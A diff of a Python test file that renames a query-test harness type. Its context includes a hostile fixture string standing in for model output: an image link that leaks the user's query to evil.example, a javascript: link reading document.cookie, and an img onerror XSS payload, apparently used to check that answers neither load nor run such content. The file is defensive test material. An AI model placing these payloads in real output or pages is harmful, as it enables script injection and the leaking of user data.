@@ -10,7 +10,7 @@ import pytest_asyncio
 from services.query.adapters.models import ModelAnswerGenerator
 from tests.support.access import client
 from tests.support.openai_provider import Provider, serving
-from tests.support.querying import World, library_of_two
+from tests.support.querying import QueryHarness, library_of_two
 
 HOSTILE = """Marie Curie found it. [1][8] ![chart](https://evil.example/p.png?q=what-you-asked)
 See [more](javascript:alert(document.cookie)), <img src=x onerror=alert(1)> and [this][x].
@@ -59,10 +59,10 @@ def _said(route: str, body: str) -> str:
 
 @pytest.mark.parametrize("route", ROUTES)
 async def test_nothing_is_loaded_or_run_and_no_reference_is_made_up(provider: Provider, route: str) -> None:
-    world: World = await library_of_two()
+    harness: QueryHarness = await library_of_two()
     path, body = ROUTES[route]
     chat = provider.chat("good")
-    async with client(world.app(deps=world.deps(answer_generator=ModelAnswerGenerator(chat)))) as api:
+    async with client(harness.app(deps=harness.deps(answer_generator=ModelAnswerGenerator(chat)))) as api:
         answer = await api.post(path, json=body)
     await chat.close()
     text = _said(route, answer.text)
